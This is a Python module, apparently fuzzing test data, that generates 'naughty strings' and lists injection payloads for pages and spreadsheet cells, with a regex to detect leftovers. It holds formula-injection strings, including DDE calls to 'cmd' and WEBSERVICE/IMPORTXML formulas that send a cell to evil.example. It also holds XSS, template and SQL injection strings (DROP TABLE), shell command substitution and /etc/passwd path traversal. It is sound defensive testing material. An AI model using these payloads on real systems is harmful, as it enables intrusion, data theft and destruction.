"""Naughty strings in the spirit of the big list, made by rules, and payloads that try to become code."""

from __future__ import annotations

import re

_MARKS = "!\"#$%&'()*+,-./:;<=>?@[\\]^_`{|}~"

# What each would do if it became code is to set this name in a page, or to show it in a cell.
MARK = "pwned"

PAYLOADS: tuple[str, ...] = (
    # Formulas
    "=1+1",
    "=pwned()",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "=cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"x")',
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    '=WEBSERVICE("http://evil.example/"&A1)',
    '=IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")',
    "='file:///etc/passwd'#$Sheet1.A1",
    "={1;2;3}",
    '";=1+1;"',
    "a;=1+1",
    "\t=1+1",
    "\n=1+1",
    " =1+1",
    "\uff1d1+1",
    "#N/A",
    "#REF!",
    # Markup
    "<script>window.pwned=1</script>",
    "</script><script>window.pwned=1</script>",
    "<img src=x onerror=window.pwned=1>",
    '"><svg onload=window.pwned=1>',
    "' onmouseover='window.pwned=1' x='",
    "` onclick=window.pwned=1 `",
    "<style>*{display:none}</style>",
    "</style><script>window.pwned=1</script>",
    "</title><script>window.pwned=1</script>",
    "<!--",
    "-->",
    "<![CDATA[x]]>",
    "]]></t></si></sst>",
    "<iframe src=javascript:window.pwned=1>",
    "<base href=http://evil.example/>",
    "<meta http-equiv=refresh content=0;url=http://evil.example/>",
    "&lt;script&gt;window.pwned=1&lt;/script&gt;",
    "&#x3C;script&#x3E;",
    "&amp;&nbsp;&bogus;",
    # Templates, Markdown, TeX, scripts
    "{{ 7*7 }}{{ config }}",
    "{% include '/etc/passwd' %}",
    "${7*7} #{7*7} <%= 7*7 %>",
    "[x](javascript:window.pwned=1)",
    "![x](file:///etc/passwd)",
    "[x]: data:text/html,x\n[x]",
    "\\input{/etc/passwd}",
    "\\href{javascript:pwned}{x}",
    "*/window.pwned=1/*",
    "\\u003cscript\\u003ewindow.pwned=1\\u003c/script\\u003e",
    "'-window.pwned=1-'",
    '";window.pwned=1;//',
    "\u2028window.pwned=1\u2028",
    "[link=http://evil.example]x[/link]",
    "[/bold]",
)

_WORDS = (
    *("undefined", "undef", "null", "NULL", "(null)", "nil", "NIL", "true", "false", "True", "False", "TRUE", "FALSE"),
    *(
        "None",
        "hasOwnProperty",
        "then",
        "constructor",
        "__proto__",
        "\\",
        "\\\\",
        "NaN",
        "Infinity",
        "-Infinity",
        "INF",
    ),
    *("0", "1", "1.00", "$1.00", "1/2", "1E2", "1E02", "1E+02", "-1", "-1.00", "-$1.00", "-1/2", "-1E2", "1/0", "0/0"),
    *(
        "-2147483648/-1",
        "0.00",
        "0..0",
        ".",
        "0.0.0",
        "0,00",
        "0,,0",
        ",",
        "0,0,0",
        "0.0/0",
        "1.0/0.0",
        "--1",
        "-",
        "-.",
        "-,",
    ),
    *("9" * 96, "0x0", "0xffffffff", "0xabad1dea", "123456789012345678901234567890123456789", "1,000.00", "1 000.00"),
    *(
        "1'000.00",
        "01000",
        "08",
        "09",
        "2.2250738585072011e-308",
        "012-3456",
        "2024-01-02",
        "1/2/3",
        "3-4",
        "10:30",
        "SEPT1",
    ),
    *(
        "MARCH1",
        "1e5",
        "12e3",
        "+0",
        "-0",
        "TRUE()",
        "A1",
        "$A$1",
        "R1C1",
        "Sheet1!A1",
        "'Sheet1'!A1",
        "Print_Area",
        "_xlnm._FilterDatabase",
    ),
    *("CON", "PRN", "AUX", "NUL", "COM1", "LPT1", "a" * 399, "/dev/null; touch /tmp/pwned; echo", "`touch /tmp/pwned`"),
    *("$(touch /tmp/pwned)", '@{[system "touch /tmp/pwned"]}', "eval(\"puts 'hello world'\")", 'System("ls -al /")'),
    *(
        "$HOME",
        "$ENV{'HOME'}",
        "%d",
        "%s%s%s%s%s",
        "{0}",
        "%*.*s",
        "File:///",
        "../../../../../../etc/passwd%00",
        "%00",
    ),
    *(
        "1;DROP TABLE users",
        "1'; DROP TABLE users-- 1",
        "' OR 1=1 -- 1",
        "' OR '1'='1",
        "'; EXEC sp_MSForEachTable 'DROP TABLE ?'; --",
    ),
    *("() { 0; }; touch /tmp/pwned;", "<<< %s(un='%s') = %u", "+++ATH0", "Powerغلُلُصّبُلُلصّبُررً ॣ ॣh ॣ ॣ 冗", "జ్ఞ‌ా", "🏳0🌈️"),
    *("If you're reading this, you've been in a coma.", "Roses are red, violets are blue. Hope you have a nice day"),
    *(
        "_x000D_",
        "_x0041_",
        "_x005F_x0041_",
        "_x",
        "__x0000__",
        "&A",
        "&P of &N",
        "&&",
        '&"Arial"&8',
        "[Red]0.00;@",
        "General",
    ),
    *("Scunthorpe General Hospital", "Linda Callahan", "http://a/%%30%30", "javascript:alert(1)", "data:text/html,x"),
    *("\\\\server\\share", "file:///c:/x", "mailto:a@b.c", "#Sheet!A1", "\u00a0", "\u200b", "\ufeffx", "x\u00ad"),
)
_SCRIPTS = (
    *(
        "Ω≈ç√∫˜µ≤≥÷",
        "åß∂ƒ©˙∆˚¬…æ",
        "œ∑´®†¥¨ˆøπ“‘",
        "¡™£¢∞§¶•ªº–≠",
        "¸˛Ç◊ı˜Â¯˘¿",
        "ÅÍÎÏ˝ÓÔÒÚÆ☃",
        "Œ„´‰ˇÁ¨ˆØ∏”’",
        "`⁄€‹›ﬁﬂ‡°·‚—±",
    ),
    *(
        "⅛⅜⅝⅞",
        "ЁЂЃЄЅІЇЈЉЊЋЌЍЎЏ",
        "абвгдежзийклмнопрстуфхцчшщъыьэюя",
        "٠١٢٣٤٥٦٧٨٩",
        "⁰⁴⁵",
        "₀₁₂",
        "ด้้้้้็็็็็้้้้้",
        "田中さんにあげて下さい",
    ),
    *(
        "パーティーへ行かないか",
        "和製漢語",
        "部落格",
        "사회과학원 어학연구소",
        "찦차를 타고 온 펲시맨과",
        "社會科學院語學研究所",
        "울란바토르",
        "𠜎𠜱𠝹𠱓𠱸𠲖𠳏",
    ),
    *(
        "ヽ༼ຈل͜ຈ༽ﾉ ヽ༼ຈل͜ຈ༽ﾉ",
        "(｡◕ ∀ ◕｡)",
        "｀ｨ(´∀｀∩",
        "__ﾛ(,_,*)",
        "・(￣∀￣)・:*:",
        "ﾟ･✿ヾ╲(｡◕‿◕｡)╱✿･ﾟ",
        "( ͡° ͜ʖ ͡°)",
        "(╯°□°）╯︵ ┻━┻)",
        "(ﾉಥ益ಥ）ﾉ ┻━┻",
    ),
    *(
        "😍",
        "👩🏽",
        "👨‍🦰 👨🏿‍🦰",
        "👾 🙇 💁 🙅 🙆 🙋",
        "🐵 🙈 🙉 🙊",
        "❤️ 💔 💌 💕",
        "✋🏿 💪🏿",
        "👨‍👩‍👦 👨‍👩‍👧‍👦",
        "🚾 🆒 🆓 🆕",
        "0️⃣ 1️⃣",
        "🇺🇸🇷🇺🇸 🇦🇫",
        "１２３",
        "ثم نفس سقطت وبالتحديد،",
    ),
    *(
        "בְּרֵאשִׁית, בָּרָא אֱלֹהִים",
        "הָיְתָהtestالصفحات التّحول",
        "﷽",
        "ﷺ",
        "مُنَاقَشَةُ سُبُلِ",
        "᚛ᚄᚓᚐᚋᚒᚄ ᚑᚄᚂᚑᚏᚅ᚜",
        "‪‪test‪",
        "‫test‫",
        "test⁠test‫",
        "⁦test⁧",
    ),
    *(
        "Ṱ̺̺̕o͞ ̷i̲̬͇̪͙n̝̗͕v̟̜̘̦͟o̶̙̰̠kè͚̮̺̪̹̱̤",
        "˙ɐnbᴉlɐ ɐuƃɐɯ ǝɹolop",
        "Ｔｈｅ ｑｕｉｃｋ",
        "𝐓𝐡𝐞 𝐪𝐮𝐢𝐜𝐤",
        "𝕿𝖍𝖊 𝖖𝖚𝖎𝖈𝖐",
        "𝑻𝒉𝒆 𝒒𝒖𝒊𝒄𝒌",
        "𝓣𝓱𝓮 𝓺𝓾𝓲𝓬𝓴",
        "𝕋𝕙𝕖 𝕢𝕦𝕚𝕔𝕜",
        "𝚃𝚑𝚎 𝚚𝚞𝚒𝚌𝚔",
        "⒯⒣⒠ ⒬⒰⒤⒞⒦",
    ),
)
_HANDLERS = (
    *("onerror", "onload", "onclick", "onfocus", "onmouseover", "onanimationstart", "ontoggle", "onpointerenter"),
    *("onbegin", "onstart", "onhashchange", "onwheel"),
)
_ELEMENTS = (
    *(
        "img src=x",
        "svg",
        "body",
        "input autofocus",
        "video src=x",
        "audio src=x",
        "details open",
        "math href=javascript:pwned",
    ),
    *(
        "object data=x",
        "embed src=x",
        "form action=javascript:pwned",
        "a href=javascript:pwned",
        "link rel=stylesheet href=x",
    ),
    *(
        "table background=x",
        "marquee",
        "isindex",
        "keygen",
        "select",
        "textarea",
        "frameset",
        "template",
        "noscript",
        "plaintext",
        "xmp",
    ),
)


def naughty() -> tuple[str, ...]:
    """At least 515 strings, each different, none empty, none longer than a label may be."""
    several: list[str] = [*_WORDS, *_SCRIPTS]
    several += [f"{mark}{word}" for mark in _MARKS for word in ("x", "1", "=", "")]
    several += [f"a{mark}b" for mark in _MARKS]
    several += [f"<{element} {handler}=window.pwned=1>" for element in _ELEMENTS for handler in _HANDLERS[:5]]
    several += [f'"{handler}=window.pwned=1//' for handler in _HANDLERS]
    several += [chr(code) + "x" for code in range(0x2000, 0x2010)]  # spaces and marks of direction
    several += [
        f"x{chr(code)}y"
        for code in (
            *range(0x2028, 0x2030),
            *range(0x2060, 0x2070),
            0xFFF9,
            0xFFFA,
            0xFFFB,
            0xFFFC,
            0xFFFD,
            0xE0001,
            0x10FFFD,
        )
    ]
    several += [
        f"{quote}{text}{quote}" for quote in ("'", '"', "''", '""', "`") for text in ("", "x", "a b", ";", "<x>")
    ]
    unique = dict.fromkeys(text[:400] for text in several if text.strip())
    return tuple(unique)


def controls() -> tuple[str, ...]:
    """Strings that no study may hold: each has a control character or one that XML has no place for."""
    codes = [*range(9), *range(0x0B, 0x20), *range(0x7F, 0xA0), 0xFFFE, 0xFFFF]
    return tuple(f"a{chr(code)}b" for code in codes)


def code_words() -> re.Pattern[str]:
    """What must not stand in a page outside its text: the payloads' own names in places where they would run."""
    return re.compile(rf"javascript:|{MARK}\(", re.IGNORECASE)
